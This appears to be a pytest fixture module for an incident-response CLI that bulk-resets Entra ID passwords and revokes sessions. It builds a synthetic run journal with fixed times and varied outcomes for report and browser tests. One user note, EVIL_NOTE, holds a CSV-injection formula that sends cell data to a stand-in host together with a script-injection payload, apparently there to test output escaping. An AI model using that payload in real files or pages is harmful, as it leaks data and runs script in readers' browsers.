"""A run journal with every kind of outcome, built through the journal's own API (no network),
for the report, status, confirm and browser tests; its clock is fixed, so text is exact."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from runner.cli import Console, main
from runner.journal import Journal
from runner.runstate import (
    Intent,
    ItemSpec,
    ItemStatus,
    Outcome,
    StepStatus,
    TimeSource,
    Verification,
)
from tests.journal_support import START, Clock, header

PLAN_CONTENT: dict[str, Any] = {
    "format_version": 1,
    "tenant": {"id": "11111111-2222-3333-4444-555555555555", "cloud": "global", "emulated": True},
    "author": {"kind": "app", "name": "app-id", "local_user": "alice"},
    "created": "2026-03-01T08:00:00Z",
    "expires": "2026-03-01T12:00:00Z",
    "plan": {
        "name": "breach-2026",
        "ticket": "INC-4821",
        "description": "Contain the phishing campaign",
        "actions": ["reset_password", "revoke_sessions", "delete_app_passwords"],
        "options": {"reset_password": {"length": 20, "require_mfa_before_change": False}},
        "safety": {
            "max_targets": 50,
            "protected_groups": ["Emergency Access Accounts"],
            "required_approvals": 1,
            "plan_ttl_hours": 4,
            "halt_on_failure_rate": 0.05,
            "canary": 1,
            "allowed_signers": None,
        },
    },
    "targets": [],
}
EVIL_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")</script><script>alert(1)</script>'
USERS = (
    ("adele.vance@contoso.com", "Adele Vance", None),
    ("alex.wilber@contoso.com", "Alex Wilber", EVIL_NOTE),
    ("megan.bowen@contoso.com", "Megan Bowen", None),
    ("isaiah.langer@contoso.com", "Isaiah Langer", "left in March"),
)
ACTIONS = (("reset_password", False), ("revoke_sessions", True), ("delete_app_passwords", True))


def _specs() -> list[ItemSpec]:
    specs = []
    for index, (upn, name, note) in enumerate(USERS):
        for position, (action, repeatable) in enumerate(ACTIONS):
            manual = action == "delete_app_passwords"
            specs.append(
                ItemSpec(
                    target_index=index,
                    object_id=str(uuid.UUID(int=index + 1)),
                    upn=upn,
                    display_name=name,
                    action=action,
                    position=position,
                    kind="manual" if manual else "change",
                    summary="manual: Graph has no API to delete app passwords"
                    if manual
                    else f"will {action.replace('_', ' ')}",
                    repeatable=repeatable,
                    note=note,
                    ticket="HR-7" if index == 3 else None,
                )
            )
    return specs


def _send(journal: Journal, item_id: int, key: str, *, secret_ref: str | None = None) -> None:
    journal.record_intent(
        Intent(
            item_id=item_id,
            step_key=key,
            intent_id=str(uuid.UUID(int=1000 + item_id)),
            intent_time=START,
            time_source=TimeSource.SERVER,
            label=key,
            secret_ref=secret_ref,
        )
    )


def _done(journal: Journal, item_id: int, key: str, status: StepStatus, **facts: Any) -> None:
    journal.record_outcome(
        Outcome(item_id=item_id, step_key=key, status=status, finish_item=True, **facts)
    )


def build_run(run_dir: Path) -> Path:
    """Items 1-12: adele verified ×2 + manual; alex failed 403, verified, manual; megan
    unknown, noop, manual; isaiah drifted ×2 + manual. Two 429s, a pause, a peak of 93 %."""
    clock = Clock()
    approval = {"approver": "bob", "time": "2026-03-01T08:30:00Z", "comment": "ok"}
    run_header = dataclasses.replace(
        header(plan_name="breach-2026", ticket="INC-4821", content=PLAN_CONTENT),
        author={"kind": "app", "name": "app-id", "local_user": "alice"},
        options={"canary": 1, "halt_on_failure_rate": 0.05, "on_drift": "skip"},
        approvals=({**approval, "digest": "sha256:" + "ab" * 32},),
    )
    journal = Journal.create(run_dir, run_header, _specs(), clock=clock)
    journal.acquire_lock(command="apply")
    (run_dir / "secrets.csv").write_text("item,value\n1,canary-secret-never-copied\n")
    _send(journal, 1, "reset", secret_ref="1:1")
    _done(journal, 1, "reset", StepStatus.SUCCEEDED, http_status=204, request_id="req-1")
    _send(journal, 2, "revoke")
    _done(journal, 2, "revoke", StepStatus.SUCCEEDED, http_status=200, request_id="req-2")
    journal.record_event("canary_passed", {"targets": 1})
    _send(journal, 4, "reset", secret_ref="4:1")
    _done(
        journal,
        4,
        "reset",
        StepStatus.FAILED,
        http_status=403,
        error_code="Authorization_RequestDenied",
        error_message="Insufficient privileges to complete the operation.",
        request_id="req-4",
    )
    _send(journal, 5, "revoke")
    _done(journal, 5, "revoke", StepStatus.SUCCEEDED, http_status=200, request_id="req-5")
    _send(journal, 7, "reset", secret_ref="7:1")
    journal.mark_unknown([(7, "reset")], reason="504 Gateway Timeout: the outcome is unknown")
    journal.set_status([8], ItemStatus.NOOP, reason="no-op: sessions already revoked")
    journal.set_status([10, 11], ItemStatus.DRIFTED, reason="changed since planning: UPN")
    journal.record_verifications([Verification(item_id=i, verified=True) for i in (1, 2, 5)])
    for kind, detail in (
        ("throttled", {"seconds": 2.0, "factor": 1.0, "detail": "429"}),
        ("pause", {"seconds": 2.0, "factor": 1.0, "detail": ""}),
        ("slow_down", {"seconds": 0.0, "factor": 0.5, "detail": "429"}),
        ("throttled", {"seconds": 1.0, "factor": 1.0, "detail": "429"}),
        ("warning", {"seconds": 0.0, "factor": 1.0, "detail": "0.93"}),
    ):
        journal.record_event(kind, detail)
    journal.close()
    return run_dir


def make_run(tmp_path: Path, name: str = "20260301T090000Z-breach-2026") -> Path:
    """A fresh synthetic run folder (0700) under `tmp_path/runs`."""
    folder = tmp_path / "runs" / name
    folder.mkdir(parents=True, mode=0o700)
    return build_run(folder)


def cli(*args: str) -> tuple[int, str, str]:
    """Run entra-bulk in-process: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(SystemExit) as exited:
        main(list(args), console=Console(stdout=out, stderr=err))
    code = exited.value.code
    assert isinstance(code, int)
    return code, out.getvalue(), err.getvalue()


def report_json(run_dir: Path) -> dict[str, Any]:
    """report.json, parsed."""
    return dict(json.loads((run_dir / "report.json").read_text(encoding="utf-8")))


def at(seconds: float) -> dt.datetime:
    """START plus some seconds."""
    return START + dt.timedelta(seconds=seconds)
